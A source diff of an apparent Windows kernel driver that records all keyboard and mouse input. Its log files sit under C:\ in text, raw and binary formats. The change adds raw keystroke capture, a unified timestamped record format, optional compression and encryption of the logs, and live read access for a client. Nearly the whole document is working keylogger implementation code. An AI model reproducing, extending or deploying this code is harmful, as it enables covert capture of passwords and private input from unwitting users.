@@ -1,26 +1,56 @@
 #include "log.h"
 #include "debug.h"
 #include "dispatch.h"
-#include <ntstrsafe.h>
+#include "format.h"
+#include "writer.h"
 
-typedef NTSTATUS(*tLogToFileFunc)(PLIST_ENTRY pListEntry, HANDLE hFile);
+typedef NTSTATUS(*tLogToFileFunc)(PLIST_ENTRY pListEntry, LogWriter* pWriter, LineSequences* pSequences);
 
 typedef struct LogThreadData {
 	LogType type;
 	tLogToFileFunc pLogToFileFunc;
 	PUNICODE_STRING pFileName;
+	BOOLEAN isBinary;
+	// Zeroed by the allocation, so the lines of every session are numbered from zero.
+	LineSequences sequences;
 }LogThreadData;
 
 PKTHREAD pLogThreads[LOG_MAX];
 
 BlockingQueue inputQueues[LOG_MAX];
 
+LogConfig logConfig;
+
 static UNICODE_STRING kbdLogFileName = RTL_CONSTANT_STRING(L"\\DosDevices\\C:\\kbd.log");
+static UNICODE_STRING kbdRawLogFileName = RTL_CONSTANT_STRING(L"\\DosDevices\\C:\\kbd.raw");
 static UNICODE_STRING mouLogFileName = RTL_CONSTANT_STRING(L"\\DosDevices\\C:\\mou.log");
+static UNICODE_STRING allLogFileName = RTL_CONSTANT_STRING(L"\\DosDevices\\C:\\input.log");
+static UNICODE_STRING binLogFileName = RTL_CONSTANT_STRING(L"\\DosDevices\\C:\\input.bin");
+
+// Interrupt time of the last binary record. Only accessed by the logging thread of LOG_ALL.
+static ULONGLONG lastRecordTime;
 
 static void logStartRoutine(PVOID pStartContext);
-static NTSTATUS logKbdToFile(PLIST_ENTRY pKbdListEntry, HANDLE hFile);
-static NTSTATUS logMouToFile(PLIST_ENTRY pMouListEntry, HANDLE hFile);
+static NTSTATUS logKbdToFile(PLIST_ENTRY pKbdListEntry, LogWriter* pWriter, LineSequences* pSequences);
+static NTSTATUS logKbdRawToFile(PLIST_ENTRY pKbdListEntry, LogWriter* pWriter, LineSequences* pSequences);
+static NTSTATUS logMouToFile(PLIST_ENTRY pMouListEntry, LogWriter* pWriter, LineSequences* pSequences);
+static NTSTATUS logAllToFile(PLIST_ENTRY pListEntry, LogWriter* pWriter, LineSequences* pSequences);
+static NTSTATUS logBinToFile(PLIST_ENTRY pListEntry, LogWriter* pWriter, LineSequences* pSequences);
+static NTSTATUS writeBinHeader(LogWriter* pWriter);
+static void discardEntries(BlockingQueue* pBlockingQueue);
+
+void initInputQueues() {
+
+	for (int i = 0; i < LOG_MAX; i++) {
+		initBlockingQueue(&inputQueues[i], 0x10);
+		// opened by the logging thread of the type
+		closeBlockingQueue(&inputQueues[i]);
+	}
+
+	return;
+}
+
+
 
 NTSTATUS startLogThread(PDRIVER_OBJECT pDriverObject, LogType type) {
 
@@ -30,8 +60,6 @@ NTSTATUS startLogThread(PDRIVER_OBJECT pDriverObject, LogType type) {
 		return STATUS_THREAD_ALREADY_IN_SESSION;
 	}
 
-	initBlockingQueue(&inputQueues[type], 0x10);
-
 	HANDLE hLogThread = NULL;
 	OBJECT_ATTRIBUTES threadAttributes = { 0 };
 	InitializeObjectAttributes(&threadAttributes, NULL, 0, NULL, NULL);
@@ -44,26 +72,55 @@ NTSTATUS startLogThread(PDRIVER_OBJECT pDriverObject, LogType type) {
 	}
 
 	pLogThreadData->type = type;
+	pLogThreadData->isBinary = FALSE;
 
 	switch (type) {
 	case LOG_KBD:
-		pLogThreadData->pLogToFileFunc = logKbdToFile;
-		pLogThreadData->pFileName = &kbdLogFileName;
+
+		if (logConfig.flags & LOG_FLAG_RAW) {
+			pLogThreadData->pLogToFileFunc = logKbdRawToFile;
+			pLogThreadData->pFileName = &kbdRawLogFileName;
+		}
+		else {
+			pLogThreadData->pLogToFileFunc = logKbdToFile;
+			pLogThreadData->pFileName = &kbdLogFileName;
+		}
+
 		break;
 	case LOG_MOU:
 		pLogThreadData->pLogToFileFunc = logMouToFile;
 		pLogThreadData->pFileName = &mouLogFileName;
+		break;
+	case LOG_ALL:
+
+		if (logConfig.flags & LOG_FLAG_BINARY) {
+			pLogThreadData->pLogToFileFunc = logBinToFile;
+			pLogThreadData->pFileName = &binLogFileName;
+			pLogThreadData->isBinary = TRUE;
+		}
+		else {
+			pLogThreadData->pLogToFileFunc = logAllToFile;
+			pLogThreadData->pFileName = &allLogFileName;
+		}
+
 		break;
 	default:
+		ExFreePoolWithTag(pLogThreadData, LOG_THREAD_DATA_TAG);
+
 		return STATUS_UNSUCCESSFUL;
 		break;
 	}
 
+	// the queue is not reinitialized, since completion routines of the last session may still add to it
+	openBlockingQueue(&inputQueues[type]);
 	NTSTATUS ntStatus = IoCreateSystemThread(pDriverObject, &hLogThread, DELETE | SYNCHRONIZE, &threadAttributes, NULL, NULL, logStartRoutine, pLogThreadData);
 
 	if (!NT_SUCCESS(ntStatus)) {
 		DBG_PRINTF("startLogThread: IoCreateSystemThread failed: 0x%lx\n", ntStatus);
 
+		closeBlockingQueue(&inputQueues[type]);
+		ExFreePoolWithTag(pLogThreadData, LOG_THREAD_DATA_TAG);
+
 		return ntStatus;
 	}
 
@@ -91,97 +148,93 @@ NTSTATUS stopLogThread(LogType type) {
 		return STATUS_THREAD_NOT_IN_SESSION;
 	}
 
-	inputQueues[type].isWaiting = FALSE;
-	NTSTATUS ntStatus = STATUS_SUCCESS;
-
-	if (type == LOG_KBD) {
-		KbdDataEntry* const pKbdDataDummyEntry = (KbdDataEntry*)ExAllocatePool2(POOL_FLAG_NON_PAGED, sizeof(KbdDataEntry), KBD_LIST_DATA_TAG);
-
-		if (!pKbdDataDummyEntry) {
-			DBG_PRINT("stopLogThread: ExAllocatePool2 failed\n");
-
-			return STATUS_MEMORY_NOT_ALLOCATED;
-		}
-
-		// KEY_BREAK will not be logged to the log file
-		pKbdDataDummyEntry->data.Flags = KEY_BREAK;
-		// adding the dummy struct will make the thread close the file because queue is not waiting anymore
-		ntStatus = addToBlockigQueue(&inputQueues[LOG_KBD], &pKbdDataDummyEntry->list);
-
-		if (ntStatus != STATUS_SUCCESS) {
-			DBG_PRINTF("stopLogThread: addBlockigQueue failed: 0x%lx\n", ntStatus);
-			
-			ExFreePoolWithTag(pKbdDataDummyEntry, KBD_LIST_DATA_TAG);
-
-			return ntStatus;
-		}
+	// the thread logs the entries left in the queue and exits once it is empty
+	closeBlockingQueue(&inputQueues[type]);
+	NTSTATUS ntStatus = KeWaitForSingleObject(pLogThreads[type], Executive, KernelMode, FALSE, NULL);
 
+	if (!NT_SUCCESS(ntStatus)) {
+		DBG_PRINTF("stopLogThread: KeWaitForSingleObject failed: 0x%lx\n", ntStatus);
 	}
-	else if (type == LOG_MOU) {
-		MouDataEntry* const pMouDataDummyEntry = (MouDataEntry*)ExAllocatePool2(POOL_FLAG_NON_PAGED, sizeof(MouDataEntry), KBD_LIST_DATA_TAG);
 
-		if (!pMouDataDummyEntry) {
-			DBG_PRINT("stopLogThread: ExAllocatePool2 failed\n");
-
-			return STATUS_MEMORY_NOT_ALLOCATED;
-		}
-
-		// 0 will not be logged to the log file
-		pMouDataDummyEntry->data.ButtonFlags = 0;
-		// adding the dummy struct will make the thread close the file because queue is not waiting anymore
-		ntStatus = addToBlockigQueue(&inputQueues[LOG_MOU], &pMouDataDummyEntry->list);
-
-		if (ntStatus != STATUS_SUCCESS) {
-			DBG_PRINTF("stopLogThread: addBlockigQueue failed: 0x%lx\n", ntStatus);
+	ObfDereferenceObject(pLogThreads[type]);
+	pLogThreads[type] = NULL;
 
-			ExFreePoolWithTag(pMouDataDummyEntry, KBD_LIST_DATA_TAG);
+	return ntStatus;
+}
 
-			return ntStatus;
-		}
 
-	}
+LogType getLogThreadType(LogType inputType) {
 
-	ntStatus = KeWaitForSingleObject(pLogThreads[type], Executive, KernelMode, FALSE, NULL);
+	if (logConfig.flags & (LOG_FLAG_UNIFIED | LOG_FLAG_BINARY)) {
 
-	if (!NT_SUCCESS(ntStatus)) {
-		DBG_PRINTF("stopLogThread: KeWaitForSingleObject failed: 0x%lx\n", ntStatus);
+		return LOG_ALL;
 	}
 
-	ObfDereferenceObject(pLogThreads[type]);
-	pLogThreads[type] = NULL;
-
-	return ntStatus;
+	return inputType;
 }
 
 
 static void logStartRoutine(PVOID pStartContext) {
 	LogThreadData* pLogThreadData = (LogThreadData*)pStartContext;
+	BlockingQueue* const pCurBlockingQueue = &inputQueues[pLogThreadData->type];
 	HANDLE hLogFile = NULL;
 	OBJECT_ATTRIBUTES fileAttributes;
 	InitializeObjectAttributes(&fileAttributes, pLogThreadData->pFileName, OBJ_CASE_INSENSITIVE | OBJ_KERNEL_HANDLE, NULL, NULL);
 	IO_STATUS_BLOCK ioStatusBlock = { 0 };
-	NTSTATUS ntStatus = ZwCreateFile(&hLogFile, FILE_WRITE_DATA, &fileAttributes, &ioStatusBlock, NULL, FILE_ATTRIBUTE_NORMAL, 0, FILE_OVERWRITE_IF, FILE_SYNCHRONOUS_IO_NONALERT, NULL, 0);
+	// the log can be read while it is written, e.g. by the follow mode of the client
+	NTSTATUS ntStatus = ZwCreateFile(&hLogFile, FILE_WRITE_DATA, &fileAttributes, &ioStatusBlock, NULL, FILE_ATTRIBUTE_NORMAL, FILE_SHARE_READ, FILE_OVERWRITE_IF, FILE_SYNCHRONOUS_IO_NONALERT, NULL, 0);
 
 	if (!NT_SUCCESS(ntStatus)) {
 		DBG_PRINTF("logStartRoutine: ZwCreateFile failed: 0x%lx\n", ntStatus);
 
+		discardEntries(pCurBlockingQueue);
+		ExFreePoolWithTag(pLogThreadData, LOG_THREAD_DATA_TAG);
+
 		return;
 	}
 
-	BlockingQueue* const pCurBlockingQueue = &inputQueues[pLogThreadData->type];
+	LogWriter writer = { 0 };
+	ntStatus = initLogWriter(&writer, hLogFile, (logConfig.flags & LOG_FLAG_COMPRESS) != 0, logConfig.flags & LOG_FLAG_ENCRYPT ? logConfig.key : NULL);
+
+	if (!NT_SUCCESS(ntStatus)) {
+		DBG_PRINTF("logStartRoutine: initLogWriter failed: 0x%lx\n", ntStatus);
+
+		ZwClose(hLogFile);
+		discardEntries(pCurBlockingQueue);
+		ExFreePoolWithTag(pLogThreadData, LOG_THREAD_DATA_TAG);
+
+		return;
+	}
 
-	// write to file while queue is not empty and waiting
-	while (pCurBlockingQueue->isWaiting || pCurBlockingQueue->size) {
+	if (pLogThreadData->isBinary) {
+		ntStatus = writeBinHeader(&writer);
+
+		if (!NT_SUCCESS(ntStatus)) {
+			DBG_PRINTF("logStartRoutine: writeBinHeader failed: 0x%lx\n", ntStatus);
+		}
+
+	}
+
+	// write to file until the queue is closed and empty
+	while (TRUE) {
 		LIST_ENTRY* pListEntry = NULL;
 		ntStatus = removeFromBlockingQueue(pCurBlockingQueue, &pListEntry);
 
+		if (ntStatus == STATUS_NO_MORE_ENTRIES) break;
+
 		if (!NT_SUCCESS(ntStatus)) {
 			DBG_PRINTF("logStartRoutine: removeBlockingQueue failed: 0x%lx\n", ntStatus);
 
 			continue;
 		}
 
-		pLogThreadData->pLogToFileFunc(pListEntry, hLogFile);
+		pLogThreadData->pLogToFileFunc(pListEntry, &writer, &pLogThreadData->sequences);
+	}
+
+	ntStatus = closeLogWriter(&writer);
+
+	if (!NT_SUCCESS(ntStatus)) {
+		DBG_PRINTF("logStartRoutine: closeLogWriter failed: 0x%lx\n", ntStatus);
 	}
 
 	ntStatus = ZwClose(hLogFile);
@@ -195,216 +248,181 @@ static void logStartRoutine(PVOID pStartContext) {
 }
 
 
-// Scan code to ascii lookup array
-// Currently a mess and for german keyboard layouts.
-static const char scanToAscii[0x80] = {
-	0,  0x1B, // ESC
-	'1', '2', '3', '4', '5', '6', '7', '8', '9', '0', '', '', '\b',
-	 '\t', 'q', 'w', 'e', 'r', 't', 'z', 'u', 'i', 'o', 'p', '', '+', '\n', 0, // CTRL
-	'a', 's', 'd', 'f', 'g', 'h', 'j', 'k', 'l', ';', '\'', '^',  0,
-	'#', 'y', 'x', 'c', 'v', 'b', 'n', 'm', ',', '.', '-',
-	0,
-	0, // LSHIFT
-	0, // ALT
-	' ',
-	0,  /* Caps lock */
-	0,  /* 59 - F1 key ... > */
-	0,   0,   0,   0,   0,   0,   0,   0,
-	0,  /* < ... F10 */
-	0,  /* 69 - Num lock*/
-	0,  /* Scroll Lock */
-	0,  /* Home key */
-	0,  /* Up Arrow */
-	0,  /* Page Up */
-  '-',
-	0,  /* Left Arrow */
-	0,
-	0,  /* Right Arrow */
-  '+',
-	0,  /* 79 - End key*/
-	0,  /* Down Arrow */
-	0,  /* Page Down */
-	0,  /* Insert Key */
-	0,  /* Delete Key */
-	0,   0,   0,
-	0,  /* F11 Key */
-	0,  /* F12 Key */
-	0,  /* All other keys are undefined */
-};
-
-void logKbdToDbg(PKEYBOARD_INPUT_DATA pKbdInputData) {
-	DBG_PRINT("++++++++++++\n");
-
-	if (!pKbdInputData) {
-		DBG_PRINT("logKbdToDbg: No data\n");
-		DBG_PRINT("++++++++++++\n");
+// Writes a null terminated string to a log. Empty strings are not written.
+static NTSTATUS writeToFile(LogWriter* pWriter, const char* str, size_t size) {
+	size_t strLen = 0;
+	NTSTATUS ntStatus = RtlStringCbLengthA(str, size, &strLen);
 
-		return;
-	}
-
-	DBG_PRINTF("logKbdToDbg: MakeCode: %hu\n", pKbdInputData->MakeCode);
+	if (!NT_SUCCESS(ntStatus)) {
+		DBG_PRINTF("writeToFile: RtlStringCbLengthA failed: 0x%lx\n", ntStatus);
 
-	if (pKbdInputData->Flags & KEY_BREAK) {
-		DBG_PRINT("logKbdToDbg: Flag: KEY_BREAK\n");
-	}
-	else {
-		DBG_PRINT("logKbdToDbg: Flag: KEY_MAKE\n");
+		return ntStatus;
 	}
 
-	if (pKbdInputData->Flags & KEY_E0) {
-		DBG_PRINT("logKbdToDbg: Flag: KEY_E0\n");
-	}
+	if (!strLen) {
 
-	if (pKbdInputData->Flags & KEY_E1) {
-		DBG_PRINT("logKbdToDbg: Flag: KEY_E1\n");
+		return ntStatus;
 	}
 
-	const char ascii = scanToAscii[pKbdInputData->MakeCode];
+	ntStatus = writeLog(pWriter, str, (ULONG)strLen);
 
-	if (ascii) {
-		DBG_PRINTF("logKbdToDbg: ASCII char: %c\n", ascii);
+	if (!NT_SUCCESS(ntStatus)) {
+		DBG_PRINTF("writeToFile: writeLog failed: 0x%lx\n", ntStatus);
 	}
 
-	DBG_PRINT("++++++++++++\n");
-
-	return;
+	return ntStatus;
 }
 
 
-void logMouToDbg(PMOUSE_INPUT_DATA pMouInputData) {
+static NTSTATUS logKbdToFile(PLIST_ENTRY pKbdListEntry, LogWriter* pWriter, LineSequences* pSequences) {
+	KbdDataEntry* const pKbdDataEntry = CONTAINING_RECORD(pKbdListEntry, KbdDataEntry, list);
 
-	if (!pMouInputData) {
-		DBG_PRINT("------------\n");
-		DBG_PRINT("logMouToDbg: No data\n");
-		DBG_PRINT("------------\n");
+	char buffer[0x60] = { 0 };
+	NTSTATUS ntStatus = formatKbd(pKbdDataEntry, pSequences, logConfig.flags, FALSE, buffer, sizeof(buffer));
+	ExFreePoolWithTag(pKbdDataEntry, KBD_LIST_DATA_TAG);
 
-		return;
+	if (!NT_SUCCESS(ntStatus)) {
+		DBG_PRINTF("logKbdToFile: formatKbd failed: 0x%lx\n", ntStatus);
+
+		return ntStatus;
 	}
 
-	BOOLEAN log = FALSE;
-	char buffer[0x20] = { 0 };
-	NTSTATUS ntStatus = STATUS_SUCCESS;
+	return writeToFile(pWriter, buffer, sizeof(buffer));
+}
 
-	if (pMouInputData->ButtonFlags == MOUSE_LEFT_BUTTON_DOWN) {
-		log = TRUE;
-		ntStatus = RtlStringCbPrintfA(buffer, sizeof(buffer), "%s", "MOUSE_LEFT_BUTTON_DOWN");
-	}
-	else if (pMouInputData->ButtonFlags == MOUSE_LEFT_BUTTON_UP) {
-		log = TRUE;
-		ntStatus = RtlStringCbPrintfA(buffer, sizeof(buffer), "%s", "MOUSE_LEFT_BUTTON_UP");
-	}
-	else if (pMouInputData->ButtonFlags == MOUSE_RIGHT_BUTTON_DOWN) {
-		log = TRUE;
-		ntStatus = RtlStringCbPrintfA(buffer, sizeof(buffer), "%s", "MOUSE_RIGHT_BUTTON_DOWN");
-	}
-	else if (pMouInputData->ButtonFlags == MOUSE_RIGHT_BUTTON_UP) {
-		log = TRUE;
-		ntStatus = RtlStringCbPrintfA(buffer, sizeof(buffer), "%s", "MOUSE_RIGHT_BUTTON_UP");
-	}
 
-	if (!NT_SUCCESS(ntStatus)) {
-		DBG_PRINT("------------\n");
-		DBG_PRINTF("logMouToDbg: RtlStringCbPrintfA failed: 0x%lx\n", ntStatus);
-		DBG_PRINT("------------\n");
+static NTSTATUS logKbdRawToFile(PLIST_ENTRY pKbdListEntry, LogWriter* pWriter, LineSequences* pSequences) {
+	UNREFERENCED_PARAMETER(pSequences);
 
-		return;
+	KbdDataEntry* const pKbdDataEntry = CONTAINING_RECORD(pKbdListEntry, KbdDataEntry, list);
+
+	UCHAR buffer[KBD_RAW_MAX_SIZE] = { 0 };
+	const ULONG size = formatKbdRaw(pKbdDataEntry, logConfig.flags, buffer);
+	ExFreePoolWithTag(pKbdDataEntry, KBD_LIST_DATA_TAG);
+
+	if (!size) {
+
+		return STATUS_SUCCESS;
 	}
 
-	if (log) {
-		DBG_PRINT("------------\n");
-		DBG_PRINTF("logMouToDbg: %s\n", buffer);
-		DBG_PRINTF("logMouToDbg: Position X: %d\n", pMouInputData->LastX);
-		DBG_PRINTF("logMouToDbg: Position Y: %d\n", pMouInputData->LastY);
-		DBG_PRINT("------------\n");
+	const NTSTATUS ntStatus = writeLog(pWriter, buffer, size);
+
+	if (!NT_SUCCESS(ntStatus)) {
+		DBG_PRINTF("logKbdRawToFile: writeLog failed: 0x%lx\n", ntStatus);
 	}
 
-	return;
+	return ntStatus;
 }
 
 
-static NTSTATUS logKbdToFile(PLIST_ENTRY pKbdListEntry, HANDLE hFile) {
-	KbdDataEntry* const pKbdDataEntry = CONTAINING_RECORD(pKbdListEntry, KbdDataEntry, list);
-	NTSTATUS ntStatus = STATUS_SUCCESS;
+static NTSTATUS logMouToFile(PLIST_ENTRY pMouListEntry, LogWriter* pWriter, LineSequences* pSequences) {
+	MouDataEntry* const pMouDataEntry = CONTAINING_RECORD(pMouListEntry, MouDataEntry, list);
 
-	if (!(pKbdDataEntry->data.Flags & KEY_BREAK)) {
-		const char key = scanToAscii[pKbdDataEntry->data.MakeCode];
+	char buffer[0x200] = { 0 };
+	NTSTATUS ntStatus = formatMou(pMouDataEntry, pSequences, logConfig.flags, FALSE, buffer, sizeof(buffer));
+	ExFreePoolWithTag(pMouDataEntry, MOU_LIST_DATA_TAG);
 
-		char buffer[0x8] = { 0 };
-		ntStatus = RtlStringCbPrintfA(buffer, sizeof(buffer), "%c", key);
+	if (!NT_SUCCESS(ntStatus)) {
+		DBG_PRINTF("logMouToFile: formatMou failed: 0x%lx\n", ntStatus);
 
-		if (!NT_SUCCESS(ntStatus)) {
-			DBG_PRINTF("logKbdToFile: RtlStringCbPrintfA failed: 0x%lx\n", ntStatus);
+		return ntStatus;
+	}
 
-			return ntStatus;
-		}
+	return writeToFile(pWriter, buffer, sizeof(buffer));
+}
 
-		size_t strLen = 0;
-		ntStatus = RtlStringCbLengthA(buffer, sizeof(buffer), &strLen);
 
-		if (!NT_SUCCESS(ntStatus)) {
-			DBG_PRINTF("logKbdToFile: RtlStringCbLengthA failed: 0x%lx\n", ntStatus);
+static NTSTATUS logAllToFile(PLIST_ENTRY pListEntry, LogWriter* pWriter, LineSequences* pSequences) {
+	const LogType type = CONTAINING_RECORD(pListEntry, DataEntry, list)->type;
 
-			return ntStatus;
-		}
+	char buffer[0x200] = { 0 };
+	NTSTATUS ntStatus = STATUS_SUCCESS;
 
-		IO_STATUS_BLOCK ioStatusBlock = { 0 };
-		ntStatus = ZwWriteFile(hFile, NULL, NULL, NULL, &ioStatusBlock, buffer, (ULONG)strLen, NULL, NULL);
+	if (type == LOG_KBD) {
+		KbdDataEntry* const pKbdDataEntry = CONTAINING_RECORD(pListEntry, KbdDataEntry, list);
+		ntStatus = formatKbd(pKbdDataEntry, pSequences, logConfig.flags, TRUE, buffer, sizeof(buffer));
+		ExFreePoolWithTag(pKbdDataEntry, KBD_LIST_DATA_TAG);
+	}
+	else if (type == LOG_MOU) {
+		MouDataEntry* const pMouDataEntry = CONTAINING_RECORD(pListEntry, MouDataEntry, list);
+		ntStatus = formatMou(pMouDataEntry, pSequences, logConfig.flags, TRUE, buffer, sizeof(buffer));
+		ExFreePoolWithTag(pMouDataEntry, MOU_LIST_DATA_TAG);
+	}
+	else {
+		DBG_PRINTF("logAllToFile: Invalid entry type %d\n", type);
+		freeDataEntry(CONTAINING_RECORD(pListEntry, DataEntry, list));
 
-		if (!NT_SUCCESS(ntStatus)) {
-			DBG_PRINTF("logKbdToFile: ZwWriteFile failed: 0x%lx\n", ntStatus);
+		return STATUS_INVALID_PARAMETER;
+	}
 
-			return ntStatus;
-		}
+	if (!NT_SUCCESS(ntStatus)) {
+		DBG_PRINTF("logAllToFile: Formatting failed: 0x%lx\n", ntStatus);
 
+		return ntStatus;
 	}
 
-	ExFreePoolWithTag(pKbdDataEntry, KBD_LIST_DATA_TAG);
+	return writeToFile(pWriter, buffer, sizeof(buffer));
+}
 
-	return ntStatus;
+
+// Writes the file header and sets the time the deltas of the first records are relative to.
+static NTSTATUS writeBinHeader(LogWriter* pWriter) {
+	RecordFileHeader header = { 0 };
+	header.magic = RECORD_MAGIC;
+	header.version = RECORD_VERSION;
+	header.headerSize = sizeof(RecordFileHeader);
+	header.recordSize = sizeof(InputRecord);
+	header.timeResolution = RECORD_TIME_RESOLUTION;
+
+	LARGE_INTEGER systemTime = { 0 };
+	KeQuerySystemTimePrecise(&systemTime);
+	header.startTime = KeQueryInterruptTime();
+	header.startSystemTime = systemTime.QuadPart;
+	lastRecordTime = header.startTime;
+
+	return writeLog(pWriter, &header, sizeof(header));
 }
 
 
-static NTSTATUS logMouToFile(PLIST_ENTRY pMouListEntry, HANDLE hFile) {
-	MouDataEntry* const pMouDataEntry = CONTAINING_RECORD(pMouListEntry, MouDataEntry, list);
-	NTSTATUS ntStatus = STATUS_SUCCESS;
+static NTSTATUS logBinToFile(PLIST_ENTRY pListEntry, LogWriter* pWriter, LineSequences* pSequences) {
+	UNREFERENCED_PARAMETER(pSequences);
 
-	if (pMouDataEntry->data.ButtonFlags == MOUSE_LEFT_BUTTON_DOWN || pMouDataEntry->data.ButtonFlags == MOUSE_RIGHT_BUTTON_DOWN) {
-		char buffer[0x20] = { 0 };
+	DataEntry* const pDataEntry = CONTAINING_RECORD(pListEntry, DataEntry, list);
 
-		if (pMouDataEntry->data.ButtonFlags == MOUSE_LEFT_BUTTON_DOWN) {
-			ntStatus = RtlStringCbPrintfA(buffer, sizeof(buffer), "%s%d%s%d%c", "LEFT@X:", pMouDataEntry->data.LastX, "Y:", pMouDataEntry->data.LastY, '\n');
-		}
-		else if (pMouDataEntry->data.ButtonFlags == MOUSE_RIGHT_BUTTON_DOWN) {
-			ntStatus = RtlStringCbPrintfA(buffer, sizeof(buffer), "%s%d%s%d%c", "RIGHT@X:", pMouDataEntry->data.LastX, "Y:", pMouDataEntry->data.LastY, '\n');
-		}
+	InputRecord records[RECORDS_PER_ENTRY];
+	ULONG count = 0;
+	const NTSTATUS ntStatus = encodeRecords(pDataEntry, &lastRecordTime, records, &count);
+	// the records are copies, so the entry is freed whether or not it could be encoded
+	freeDataEntry(pDataEntry);
 
-		if (!NT_SUCCESS(ntStatus)) {
-			DBG_PRINTF("logMouToFile: RtlStringCbPrintfA failed: 0x%lx\n", ntStatus);
+	if (!NT_SUCCESS(ntStatus)) {
+		DBG_PRINTF("logBinToFile: encodeRecords failed: 0x%lx\n", ntStatus);
 
-			return ntStatus;
-		}
+		return ntStatus;
+	}
 
-		size_t strLen = 0;
-		ntStatus = RtlStringCbLengthA(buffer, sizeof(buffer), &strLen);
+	if (!count) {
 
-		if (!NT_SUCCESS(ntStatus)) {
-			DBG_PRINTF("logMouToFile: RtlStringCbLengthA failed: 0x%lx\n", ntStatus);
+		return STATUS_SUCCESS;
+	}
 
-			return ntStatus;
-		}
+	return writeLog(pWriter, records, count * sizeof(InputRecord));
+}
 
-		IO_STATUS_BLOCK ioStatusBlock = { 0 };
-		ntStatus = ZwWriteFile(hFile, NULL, NULL, NULL, &ioStatusBlock, buffer, (ULONG)strLen, NULL, NULL);
 
-		if (!NT_SUCCESS(ntStatus)) {
-			DBG_PRINTF("logMouToFile: ZwWriteFile failed: 0x%lx\n", ntStatus);
+// Frees the entries of a queue until it is closed and empty.
+// Keeps the queue from filling up for a logging thread that can not write its file, so stopLogThread does not wait in vain.
+static void discardEntries(BlockingQueue* pBlockingQueue) {
+	LIST_ENTRY* pListEntry = NULL;
+	NTSTATUS ntStatus = STATUS_SUCCESS;
+
+	while ((ntStatus = removeFromBlockingQueue(pBlockingQueue, &pListEntry)) != STATUS_NO_MORE_ENTRIES) {
 
-			return ntStatus;
+		if (NT_SUCCESS(ntStatus)) {
+			freeDataEntry(CONTAINING_RECORD(pListEntry, DataEntry, list));
 		}
 
 	}
 
-	ExFreePoolWithTag(pMouDataEntry, MOU_LIST_DATA_TAG);
-
-	return ntStatus;
+	return;
 }
\ No newline at end of file